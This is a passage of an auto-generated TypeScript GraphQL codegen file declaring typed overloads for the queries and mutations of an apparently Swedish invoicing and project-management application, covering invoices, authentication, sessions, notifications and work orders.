export function graphql(source: "\n  mutation InvUpdate($input: UpdateInvoiceInput!) {\n    updateInvoice(input: $input) {\n      __typename\n      ... on MutationUpdateInvoiceSuccess { data { invoiceDate dueDate dueDateSetByHand contractorVat noVat taxReductionType vatAmount total amountToPay taxReductionAmount warnings } }\n      ... on Error { code path message }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"): (typeof documents)["\n  mutation InvUpdate($input: UpdateInvoiceInput!) {\n    updateInvoice(input: $input) {\n      __typename\n      ... on MutationUpdateInvoiceSuccess { data { invoiceDate dueDate dueDateSetByHand contractorVat noVat taxReductionType vatAmount total amountToPay taxReductionAmount warnings } }\n      ... on Error { code path message }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation InvAddLine($invoiceId: ID!, $input: InvoiceLineInput!) {\n    addInvoiceLine(invoiceId: $invoiceId, input: $input) {\n      __typename\n      ... on MutationAddInvoiceLineSuccess { data { id amount kind position } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"): (typeof documents)["\n  mutation InvAddLine($invoiceId: ID!, $input: InvoiceLineInput!) {\n    addInvoiceLine(invoiceId: $invoiceId, input: $input) {\n      __typename\n      ... on MutationAddInvoiceLineSuccess { data { id amount kind position } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation InvUpdateLine($id: ID!, $input: InvoiceLineInput!) {\n    updateInvoiceLine(id: $id, input: $input) { __typename ... on MutationUpdateInvoiceLineSuccess { data { amount kind reductionEligible } } ... on Error { code } }\n  }\n"): (typeof documents)["\n  mutation InvUpdateLine($id: ID!, $input: InvoiceLineInput!) {\n    updateInvoiceLine(id: $id, input: $input) { __typename ... on MutationUpdateInvoiceLineSuccess { data { amount kind reductionEligible } } ... on Error { code } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation InvRemoveLine($id: ID!) { removeInvoiceLine(id: $id) { __typename ... on Error { code } } }"): (typeof documents)["mutation InvRemoveLine($id: ID!) { removeInvoiceLine(id: $id) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation InvBuyers($invoiceId: ID!, $buyers: [InvoiceBuyerInput!]!) {\n    setInvoiceBuyers(invoiceId: $invoiceId, buyers: $buyers) {\n      __typename\n      ... on MutationSetInvoiceBuyersSuccess { data { taxReductionAmount amountToPay buyers { name personalIdentityNumber amount sharePercent } } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"): (typeof documents)["\n  mutation InvBuyers($invoiceId: ID!, $buyers: [InvoiceBuyerInput!]!) {\n    setInvoiceBuyers(invoiceId: $invoiceId, buyers: $buyers) {\n      __typename\n      ... on MutationSetInvoiceBuyersSuccess { data { taxReductionAmount amountToPay buyers { name personalIdentityNumber amount sharePercent } } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation InvLock($id: ID!) {\n    lockInvoice(id: $id) {\n      __typename\n      ... on MutationLockInvoiceSuccess { data { locked lockedBy invoiceDate dueDate taxReductionAmount amountToPay } }\n      ... on Error { code path message }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation InvLock($id: ID!) {\n    lockInvoice(id: $id) {\n      __typename\n      ... on MutationLockInvoiceSuccess { data { locked lockedBy invoiceDate dueDate taxReductionAmount amountToPay } }\n      ... on Error { code path message }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation InvUnlock($id: ID!) { unlockInvoice(id: $id) { __typename ... on MutationUnlockInvoiceSuccess { data { locked } } ... on Error { code } } }\n"): (typeof documents)["\n  mutation InvUnlock($id: ID!) { unlockInvoice(id: $id) { __typename ... on MutationUnlockInvoiceSuccess { data { locked } } ... on Error { code } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation InvReady($id: ID!, $ready: Boolean!) { setInvoiceReadyForInvoice(id: $id, ready: $ready) { __typename ... on MutationSetInvoiceReadyForInvoiceSuccess { data { readyForInvoice } } ... on Error { code } } }\n"): (typeof documents)["\n  mutation InvReady($id: ID!, $ready: Boolean!) { setInvoiceReadyForInvoice(id: $id, ready: $ready) { __typename ... on MutationSetInvoiceReadyForInvoiceSuccess { data { readyForInvoice } } ... on Error { code } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation InvCredit($id: ID!, $reason: String!) {\n    creditInvoice(id: $id, reason: $reason) {\n      __typename\n      ... on MutationCreditInvoiceSuccess { data { id number isCredit creditReason title creditOf { number } subtotal vatAmount total taxReductionAmount amountToPay lines { quantity amount } buyers { amount } } }\n      ... on Error { code path }\n    }\n  }\n"): (typeof documents)["\n  mutation InvCredit($id: ID!, $reason: String!) {\n    creditInvoice(id: $id, reason: $reason) {\n      __typename\n      ... on MutationCreditInvoiceSuccess { data { id number isCredit creditReason title creditOf { number } subtotal vatAmount total taxReductionAmount amountToPay lines { quantity amount } buyers { amount } } }\n      ... on Error { code path }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation InvWorkTypes($lineId: ID!, $workTypes: [WorkTypePartInput!]!) {\n    setInvoiceLineWorkTypes(lineId: $lineId, workTypes: $workTypes) {\n      __typename\n      ... on MutationSetInvoiceLineWorkTypesSuccess { data { amount workTypes { workType amount hours } } }\n      ... on ValidationError { issues { path code } }\n      ... on Error { code }\n    }\n  }\n"): (typeof documents)["\n  mutation InvWorkTypes($lineId: ID!, $workTypes: [WorkTypePartInput!]!) {\n    setInvoiceLineWorkTypes(lineId: $lineId, workTypes: $workTypes) {\n      __typename\n      ... on MutationSetInvoiceLineWorkTypesSuccess { data { amount workTypes { workType amount hours } } }\n      ... on ValidationError { issues { path code } }\n      ... on Error { code }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query InvList($filter: InvoiceFilter, $orderBy: InvoiceOrder, $search: String, $first: Int) {\n    invoices(filter: $filter, orderBy: $orderBy, search: $search, first: $first) { totalCount edges { node { number total locked } } }\n  }\n"): (typeof documents)["\n  query InvList($filter: InvoiceFilter, $orderBy: InvoiceOrder, $search: String, $first: Int) {\n    invoices(filter: $filter, orderBy: $orderBy, search: $search, first: $first) { totalCount edges { node { number total locked } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n      query InvPage($first: Int!) {\n        invoices(first: $first) { edges { node { number total customer { name } project { number } ourReference { name } lines { description amount workOrder { id } } vatGroups { rate vat } } } }\n      }\n    "): (typeof documents)["\n      query InvPage($first: Int!) {\n        invoices(first: $first) { edges { node { number total customer { name } project { number } ourReference { name } lines { description amount workOrder { id } } vatGroups { rate vat } } } }\n      }\n    "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation LrSettings($input: UpdateCompanySettingsInput!) {\n    updateCompanySettings(input: $input) {\n      __typename\n      ... on MutationUpdateCompanySettingsSuccess {\n        data {\n          organisationNumber registeredOffice fSkatt bankgiro bankgiroDigits plusgiro plusgiroDigits iban ibanFormatted bic lateInterestRate\n          defaultPaymentTerm { id days }\n        }\n      }\n      ... on ValidationError { issues { path code message } }\n    }\n  }\n"): (typeof documents)["\n  mutation LrSettings($input: UpdateCompanySettingsInput!) {\n    updateCompanySettings(input: $input) {\n      __typename\n      ... on MutationUpdateCompanySettingsSuccess {\n        data {\n          organisationNumber registeredOffice fSkatt bankgiro bankgiroDigits plusgiro plusgiroDigits iban ibanFormatted bic lateInterestRate\n          defaultPaymentTerm { id days }\n        }\n      }\n      ... on ValidationError { issues { path code message } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query LrTerms { paymentTerms { id days } }"): (typeof documents)["query LrTerms { paymentTerms { id days } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation LrCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } ... on ValidationError { issues { path code } } }\n  }\n"): (typeof documents)["\n  mutation LrCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } ... on ValidationError { issues { path code } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation LrUpdateCustomer($input: UpdateCustomerInput!) {\n    updateCustomer(input: $input) { __typename ... on ValidationError { issues { path code } } }\n  }\n"): (typeof documents)["\n  mutation LrUpdateCustomer($input: UpdateCustomerInput!) {\n    updateCustomer(input: $input) { __typename ... on ValidationError { issues { path code } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation LrProject($input: CreateProjectInput!) { createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id } } } }\n"): (typeof documents)["\n  mutation LrProject($input: CreateProjectInput!) { createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation LrInvoice($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id dueDate warnings } } ... on ValidationError { issues { path code } } }\n  }\n"): (typeof documents)["\n  mutation LrInvoice($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id dueDate warnings } } ... on ValidationError { issues { path code } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation LrLock($id: ID!) {\n    lockInvoice(id: $id) {\n      __typename\n      ... on MutationLockInvoiceSuccess { data { locked invoiceDate dueDate } }\n      ... on ValidationError { issues { path code message } }\n    }\n  }\n"): (typeof documents)["\n  mutation LrLock($id: ID!) {\n    lockInvoice(id: $id) {\n      __typename\n      ... on MutationLockInvoiceSuccess { data { locked invoiceDate dueDate } }\n      ... on ValidationError { issues { path code message } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RehashChangePassword($currentPassword: String, $newPassword: String!) {\n    changePassword(currentPassword: $currentPassword, newPassword: $newPassword) { __typename ... on Error { code message } }\n  }\n"): (typeof documents)["\n  mutation RehashChangePassword($currentPassword: String, $newPassword: String!) {\n    changePassword(currentPassword: $currentPassword, newPassword: $newPassword) { __typename ... on Error { code message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CompleteLogin($challenge: String!, $code: String!) {\n    completeLogin(challenge: $challenge, code: $code) {\n      __typename\n      ... on Error { code message path }\n      ... on MutationCompleteLoginSuccess { data { accessToken refreshToken } }\n    }\n  }\n"): (typeof documents)["\n  mutation CompleteLogin($challenge: String!, $code: String!) {\n    completeLogin(challenge: $challenge, code: $code) {\n      __typename\n      ... on Error { code message path }\n      ... on MutationCompleteLoginSuccess { data { accessToken refreshToken } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation Logout { logout { __typename ... on Error { code } ... on MutationLogoutSuccess { data } } }"): (typeof documents)["mutation Logout { logout { __typename ... on Error { code } ... on MutationLogoutSuccess { data } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation LogoutEverywhere { logoutEverywhere { __typename ... on MutationLogoutEverywhereSuccess { data } } }"): (typeof documents)["mutation LogoutEverywhere { logoutEverywhere { __typename ... on MutationLogoutEverywhereSuccess { data } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevokeSession($id: ID!) { revokeSession(id: $id) { __typename ... on Error { code } ... on MutationRevokeSessionSuccess { data } } }\n"): (typeof documents)["\n  mutation RevokeSession($id: ID!) { revokeSession(id: $id) { __typename ... on Error { code } ... on MutationRevokeSessionSuccess { data } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query MySessions { mySessions { id current userAgent address expiresAt user { id } } }"): (typeof documents)["query MySessions { mySessions { id current userAgent address expiresAt user { id } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ChangePassword($currentPassword: String, $newPassword: String!) {\n    changePassword(currentPassword: $currentPassword, newPassword: $newPassword) {\n      __typename\n      ... on Error { code path }\n      ... on MutationChangePasswordSuccess { data { accessToken refreshToken } }\n    }\n  }\n"): (typeof documents)["\n  mutation ChangePassword($currentPassword: String, $newPassword: String!) {\n    changePassword(currentPassword: $currentPassword, newPassword: $newPassword) {\n      __typename\n      ... on Error { code path }\n      ... on MutationChangePasswordSuccess { data { accessToken refreshToken } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RequestPasswordReset($email: String!) { requestPasswordReset(email: $email) { __typename ... on MutationRequestPasswordResetSuccess { data } } }\n"): (typeof documents)["\n  mutation RequestPasswordReset($email: String!) { requestPasswordReset(email: $email) { __typename ... on MutationRequestPasswordResetSuccess { data } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ResetPassword($token: String!, $newPassword: String!) {\n    resetPassword(token: $token, newPassword: $newPassword) {\n      __typename\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n      ... on MutationResetPasswordSuccess { data }\n    }\n  }\n"): (typeof documents)["\n  mutation ResetPassword($token: String!, $newPassword: String!) {\n    resetPassword(token: $token, newPassword: $newPassword) {\n      __typename\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n      ... on MutationResetPasswordSuccess { data }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation EnrolTotp { enrolTotp { __typename ... on Error { code } ... on MutationEnrolTotpSuccess { data { secret uri } } } }"): (typeof documents)["mutation EnrolTotp { enrolTotp { __typename ... on Error { code } ... on MutationEnrolTotpSuccess { data { secret uri } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ConfirmTotp($code: String!) { confirmTotp(code: $code) { __typename ... on Error { code path } ... on MutationConfirmTotpSuccess { data } } }\n"): (typeof documents)["\n  mutation ConfirmTotp($code: String!) { confirmTotp(code: $code) { __typename ... on Error { code path } ... on MutationConfirmTotpSuccess { data } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation DisableTotp($code: String!) { disableTotp(code: $code) { __typename ... on Error { code path } ... on MutationDisableTotpSuccess { data } } }\n"): (typeof documents)["\n  mutation DisableTotp($code: String!) { disableTotp(code: $code) { __typename ... on Error { code path } ... on MutationDisableTotpSuccess { data } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation InviteUser($email: String!, $groupIds: [ID!]) {\n    inviteUser(email: $email, groupIds: $groupIds) {\n      __typename\n      ... on Error { code path }\n      ... on MutationInviteUserSuccess { data { id email expiresAt } }\n    }\n  }\n"): (typeof documents)["\n  mutation InviteUser($email: String!, $groupIds: [ID!]) {\n    inviteUser(email: $email, groupIds: $groupIds) {\n      __typename\n      ... on Error { code path }\n      ... on MutationInviteUserSuccess { data { id email expiresAt } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation AcceptInvite($token: String!, $name: String!, $password: String!) {\n    acceptInvite(token: $token, name: $name, password: $password) {\n      __typename\n      ... on Error { code path }\n      ... on MutationAcceptInviteSuccess { data { accessToken refreshToken } }\n    }\n  }\n"): (typeof documents)["\n  mutation AcceptInvite($token: String!, $name: String!, $password: String!) {\n    acceptInvite(token: $token, name: $name, password: $password) {\n      __typename\n      ... on Error { code path }\n      ... on MutationAcceptInviteSuccess { data { accessToken refreshToken } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query LoginGroups { groups { id name } }"): (typeof documents)["query LoginGroups { groups { id name } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation LoginDeactivateUser($input: UpdateUserInput!) { updateUser(input: $input) { __typename ... on MutationUpdateUserSuccess { data { active } } } }\n"): (typeof documents)["\n  mutation LoginDeactivateUser($input: UpdateUserInput!) { updateUser(input: $input) { __typename ... on MutationUpdateUserSuccess { data { active } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation NfCreate($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id number name } }\n      ... on Error { code message }\n    }\n  }\n"): (typeof documents)["\n  mutation NfCreate($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id number name } }\n      ... on Error { code message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation NfAssign($id: ID!, $userId: ID) {\n    assignCustomer(id: $id, userId: $userId) {\n      __typename\n      ... on MutationAssignCustomerSuccess { data { id assignedUser { signature } } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"): (typeof documents)["\n  mutation NfAssign($id: ID!, $userId: ID) {\n    assignCustomer(id: $id, userId: $userId) {\n      __typename\n      ... on MutationAssignCustomerSuccess { data { id assignedUser { signature } } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query NfMine($unreadOnly: Boolean) {\n    myNotifications(first: 50, unreadOnly: $unreadOnly) {\n      totalCount\n      edges { node { id kind customerNumber customerName by readAt mailStatus customer { id } } }\n    }\n  }\n"): (typeof documents)["\n  query NfMine($unreadOnly: Boolean) {\n    myNotifications(first: 50, unreadOnly: $unreadOnly) {\n      totalCount\n      edges { node { id kind customerNumber customerName by readAt mailStatus customer { id } } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query NfAll($userId: ID, $mailStatus: NotificationMailStatus) {\n    notifications(first: 50, userId: $userId, mailStatus: $mailStatus) {\n      edges { node { id kind mailStatus mailTo mailAttempts mailError mailSentAt } }\n    }\n  }\n"): (typeof documents)["\n  query NfAll($userId: ID, $mailStatus: NotificationMailStatus) {\n    notifications(first: 50, userId: $userId, mailStatus: $mailStatus) {\n      edges { node { id kind mailStatus mailTo mailAttempts mailError mailSentAt } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query NfNode($id: ID!) { node(id: $id) { id ... on Notification { kind } } }"): (typeof documents)["query NfNode($id: ID!) { node(id: $id) { id ... on Notification { kind } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation NfRead($ids: [ID!]) {\n    markNotificationsRead(ids: $ids) {\n      __typename\n      ... on MutationMarkNotificationsReadSuccess { data }\n      ... on Error { code message }\n    }\n  }\n"): (typeof documents)["\n  mutation NfRead($ids: [ID!]) {\n    markNotificationsRead(ids: $ids) {\n      __typename\n      ... on MutationMarkNotificationsReadSuccess { data }\n      ... on Error { code message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query OcInvoice($id: ID!) { invoice(id: $id) { id number ocrReference } }"): (typeof documents)["query OcInvoice($id: ID!) { invoice(id: $id) { id number ocrReference } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query OcByOcr($reference: String!) { invoiceByOcr(reference: $reference) { id number } }"): (typeof documents)["query OcByOcr($reference: String!) { invoiceByOcr(reference: $reference) { id number } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query OcSearch($search: String) { invoices(first: 10, search: $search) { edges { node { id ocrReference } } } }"): (typeof documents)["query OcSearch($search: String) { invoices(first: 10, search: $search) { edges { node { id ocrReference } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation OcScheme($input: UpdateCompanySettingsInput!) {\n    updateCompanySettings(input: $input) { __typename ... on MutationUpdateCompanySettingsSuccess { data { ocrScheme } } ... on Error { code } }\n  }\n"): (typeof documents)["\n  mutation OcScheme($input: UpdateCompanySettingsInput!) {\n    updateCompanySettings(input: $input) { __typename ... on MutationUpdateCompanySettingsSuccess { data { ocrScheme } } ... on Error { code } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PrjCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id number contacts(first: 5) { edges { node { id name } } } } }\n    }\n  }\n"): (typeof documents)["\n  mutation PrjCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id number contacts(first: 5) { edges { node { id name } } } } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PrjInactivate($id: ID!) { inactivateCustomer(id: $id) { __typename } }\n"): (typeof documents)["\n  mutation PrjInactivate($id: ID!) { inactivateCustomer(id: $id) { __typename } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query PrjMe { me { id signature } }"): (typeof documents)["query PrjMe { me { id signature } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PrjCreate($input: CreateProjectInput!) {\n    createProject(input: $input) {\n      __typename\n      ... on MutationCreateProjectSuccess {\n        data {\n          id number name customerReference startDate endDate statusCode phase sentToAccounting finishedAt description createdBy\n          status { code name }\n          customer { id number }\n          contact { id name }\n          projectManager { signature }\n        }\n      }\n      ... on Error { code path message }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation PrjCreate($input: CreateProjectInput!) {\n    createProject(input: $input) {\n      __typename\n      ... on MutationCreateProjectSuccess {\n        data {\n          id number name customerReference startDate endDate statusCode phase sentToAccounting finishedAt description createdBy\n          status { code name }\n          customer { id number }\n          contact { id name }\n          projectManager { signature }\n        }\n      }\n      ... on Error { code path message }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PrjUpdate($input: UpdateProjectInput!) {\n    updateProject(input: $input) {\n      __typename\n      ... on MutationUpdateProjectSuccess { data { id name statusCode phase sentToAccounting statusChangedAt finishedAt description contact { id } customer { id } modifiedBy } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"): (typeof documents)["\n  mutation PrjUpdate($input: UpdateProjectInput!) {\n    updateProject(input: $input) {\n      __typename\n      ... on MutationUpdateProjectSuccess { data { id name statusCode phase sentToAccounting statusChangedAt finishedAt description contact { id } customer { id } modifiedBy } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PrjClose($id: ID!, $statusCode: Int) {\n    closeProject(id: $id, statusCode: $statusCode) {\n      __typename\n      ... on MutationCloseProjectSuccess { data { statusCode phase finishedAt } }\n      ... on Error { code path }\n    }\n  }\n"): (typeof documents)["\n  mutation PrjClose($id: ID!, $statusCode: Int) {\n    closeProject(id: $id, statusCode: $statusCode) {\n      __typename\n      ... on MutationCloseProjectSuccess { data { statusCode phase finishedAt } }\n      ... on Error { code path }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PrjAddWorkOrder($projectId: ID!, $input: WorkOrderInput!) {\n    createWorkOrder(projectId: $projectId, input: $input) {\n      __typename\n      ... on MutationCreateWorkOrderSuccess { data { id number reference name statusCode phase startDate effectiveStartDate customerReference project { number } } }\n      ... on Error { code path message }\n    }\n  }\n"): (typeof documents)["\n  mutation PrjAddWorkOrder($projectId: ID!, $input: WorkOrderInput!) {\n    createWorkOrder(projectId: $projectId, input: $input) {\n      __typename\n      ... on MutationCreateWorkOrderSuccess { data { id number reference name statusCode phase startDate effectiveStartDate customerReference project { number } } }\n      ... on Error { code path message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PrjUpdateWorkOrder($id: ID!, $input: WorkOrderInput!) {\n    updateWorkOrder(id: $id, input: $input) {\n      __typename\n      ... on MutationUpdateWorkOrderSuccess { data { name startDate effectiveStartDate statusCode } }\n      ... on Error { code path }\n    }\n  }\n"): (typeof documents)["\n  mutation PrjUpdateWorkOrder($id: ID!, $input: WorkOrderInput!) {\n    updateWorkOrder(id: $id, input: $input) {\n      __typename\n      ... on MutationUpdateWorkOrderSuccess { data { name startDate effectiveStartDate statusCode } }\n      ... on Error { code path }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PrjCloseWorkOrder($id: ID!) {\n    closeWorkOrder(id: $id) { __typename ... on MutationCloseWorkOrderSuccess { data { statusCode phase finishedAt } } }\n  }\n"): (typeof documents)["\n  mutation PrjCloseWorkOrder($id: ID!) {\n    closeWorkOrder(id: $id) { __typename ... on MutationCloseWorkOrderSuccess { data { statusCode phase finishedAt } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PrjAddChangeOrder($projectId: ID!, $input: ChangeOrderInput!) {\n    createChangeOrder(projectId: $projectId, input: $input) {\n      __typename\n      ... on MutationCreateChangeOrderSuccess { data { id number code reference name description estimatedAmount statusCode } }\n      ... on Error { code path }\n    }\n  }\n"): (typeof documents)["\n  mutation PrjAddChangeOrder($projectId: ID!, $input: ChangeOrderInput!) {\n    createChangeOrder(projectId: $projectId, input: $input) {\n      __typename\n      ... on MutationCreateChangeOrderSuccess { data { id number code reference name description estimatedAmount statusCode } }\n      ... on Error { code path }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PrjUpdateChangeOrder($id: ID!, $input: ChangeOrderInput!) {\n    updateChangeOrder(id: $id, input: $input) {\n      __typename\n      ... on MutationUpdateChangeOrderSuccess { data { estimatedAmount description statusCode } }\n      ... on Error { code path }\n    }\n  }\n"): (typeof documents)["\n  mutation PrjUpdateChangeOrder($id: ID!, $input: ChangeOrderInput!) {\n    updateChangeOrder(id: $id, input: $input) {\n      __typename\n      ... on MutationUpdateChangeOrderSuccess { data { estimatedAmount description statusCode } }\n      ... on Error { code path }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PrjCloseChangeOrder($id: ID!, $statusCode: Int) {\n    closeChangeOrder(id: $id, statusCode: $statusCode) {\n      __typename\n      ... on MutationCloseChangeOrderSuccess { data { statusCode phase } }\n      ... on Error { code path }\n    }\n  }\n"): (typeof documents)["\n  mutation PrjCloseChangeOrder($id: ID!, $statusCode: Int) {\n    closeChangeOrder(id: $id, statusCode: $statusCode) {\n      __typename\n      ... on MutationCloseChangeOrderSuccess { data { statusCode phase } }\n      ... on Error { code path }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
